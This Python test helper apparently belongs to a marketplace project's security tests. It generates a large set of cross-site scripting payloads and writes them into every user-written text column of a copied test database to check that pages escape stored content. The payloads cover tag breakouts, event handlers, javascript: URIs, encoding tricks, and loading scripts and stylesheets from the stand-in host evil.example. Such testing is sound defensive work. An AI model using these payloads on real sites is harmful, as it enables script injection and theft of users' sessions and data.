"""Script payloads by kind: ways out of a context, things that run, spellings; and a pen that writes them everywhere."""
import itertools
import re

from sqlalchemy import JSON, Enum, String, Table, update
from sqlalchemy.exc import IntegrityError

from marketplace.foundation.db import db
from tests.database import copies_of

# Out of: text, either kind of attribute, none, a text box, a title, a comment, a script's string, a stylesheet, CDATA.
WAYS_OUT = ["", '">', "'>", " x=", "</textarea>", "</title>", "-->", "</script>", "</style>", "]]>"]
HANDLERS = ["onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onpointerenter", "onanimationstart", "onbegin"]
RUN = "(window.__ran=window.__ran||[]).push({})"

THINGS = [
    "<script>{run}</script>", "<ScRiPt>{run}</sCrIpT>", "<script src=//evil.example/{n}.js></script>", "<script\x0c>{run}</script>",
    "<img src=x onerror={run}>", "<svg onload={run}>", "<svg/onload={run}//", "<svg><script>{run}</script></svg>", "<math><mi xlink:href='javascript:{run}'>x</mi></math>",
    "<iframe src='javascript:{run}'></iframe>", "<iframe srcdoc='<script>parent.{run}</script>'></iframe>", "<object data='javascript:{run}'></object>",
    "<embed src='javascript:{run}'>", "<body onload={run}>", "<details open ontoggle={run}>", "<input autofocus onfocus={run}>", "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>", "<a href='javascript:{run}' autofocus onfocus={run}>x</a>", "<form action='javascript:{run}'><button autofocus onfocus={run}>x",
    "<base href=//evil.example/{n}/>", "<link rel=stylesheet href=//evil.example/{n}.css>", "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<style>@import '//evil.example/{n}.css';</style>", "<style>*{{animation:x 1s}}</style><b onanimationstart={run}>", "<img src='//evil.example/{n}.png'>",
    "<marquee onstart={run}>", "<template><img src=x onerror={run}></template>", "<noscript><p title='</noscript><img src=x onerror={run}>'>", "<xmp><img src=x onerror={run}></xmp>",
]
BARE = [  # Inside a tag, a script or a template: no angle bracket is needed.
    '" autofocus onfocus={run} x="', "' autofocus onfocus={run} x='", "x onmouseover={run}", "javascript:{run}", "JaVaScRiPt:{run}", "java\tscript:{run}", "java\nscript:{run}",
    "&#106;avascript:{run}", "data:text/html,<script>{run}</script>", "';{run};//", '";{run};//', "`${{{run}}}`", "${{{run}}}", "{{{{{run}}}}}", "{{{{constructor.constructor('{run}')()}}}}",
    "</script><script>{run}//", "\\u003cscript\\u003e{run}\\u003c/script\\u003e", "&lt;script&gt;{run}&lt;/script&gt;", "%3Cscript%3E{run}%3C/script%3E", "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-", "<<script>{run}//<</script>", "<scr<script>ipt>{run}</scr</script>ipt>", "<img \x0bsrc=x onerror={run}>", "<!--><img src=x onerror={run}>-->",
    "<![CDATA[<img src=x onerror={run}>]]>", "[x](javascript:{run})", '![x](x" onerror="{run})', "expression({run})", "url(javascript:{run})",
]


def payloads() -> list[str]:
    """Each tells its number if it ever runs: ``window.__ran``, a request to evil.example, or a report of the policy."""
    shapes = [way + thing for way, thing in itertools.product(WAYS_OUT[:9], THINGS)] + BARE
    shapes += [f"{way}<b {handler}={{run}} style=animation:x tabindex=1 autofocus>" for way, handler in itertools.product(WAYS_OUT[:3], HANDLERS)]
    return [shape.format(run=RUN.format(number), n=number) for number, shape in enumerate(shapes)]


# What the product itself puts into text columns: ids, keys, hashes, codes, addresses of pages and of people.
OURS = re.compile(
    r"(^|_)(id|hash|key|currency|jurisdiction|country|kind|type|state|status|action|reference|fingerprint|slug|by|url|website|destination|prefix|stamp|purpose"
    r"|source|object|job|code|sha256|language|cursor|category|email|phone|scopes|outcome|account|last_error|body|through_entry|words_key|mime|media_type"
    r"|last4|brand|expires|rule|failure|fraud_type|paid_with|token|mark|handle|signal|signals|pattern|digest|algorithm|encoding|separator)s?$")
NOT_WRITTEN_BY_PEOPLE = {"alembic_version", "audit_events", "ledger_entries", "ledger_accounts", "outbox_messages", "stripe_movements", "stripe_events", "api_answers",
                         "bounty_words", "rotas", "turns"}


def write_everywhere(words: str) -> int:
    """``words`` into every text that people or programs wrote, in every row there is; says into how many columns.

    Past the checks of forms: what a page shows must be safe whatever has once been kept.
    """
    filled = 0
    with copies_of(db.engine.url).past_rules.begin() as connection:
        for table in db.metadata.sorted_tables:
            for column in _texts_of(table):
                value = [words, words] if isinstance(table.c[column].type, JSON) else words
                everywhere = update(table).values({column: value})
                try:
                    connection.execute(everywhere)
                except IntegrityError:  # A rule says where there may be none.
                    connection.execute(everywhere.where(table.c[column].is_not(None)))
                filled += 1
    return filled


def _texts_of(table: Table) -> list[str]:
    if table.name in NOT_WRITTEN_BY_PEOPLE:
        return []
    found = []
    for column in table.columns:
        kind = getattr(column.type, "impl_instance", column.type)
        is_text = isinstance(kind, String) and not isinstance(column.type, Enum) and not isinstance(kind, Enum)
        is_list = isinstance(column.type, JSON) and column.name in LISTS
        if (is_text or is_list) and not (column.primary_key or column.foreign_keys or OURS.search(column.name)):
            found.append(column.name)
    return found


LISTS = {"criteria"}
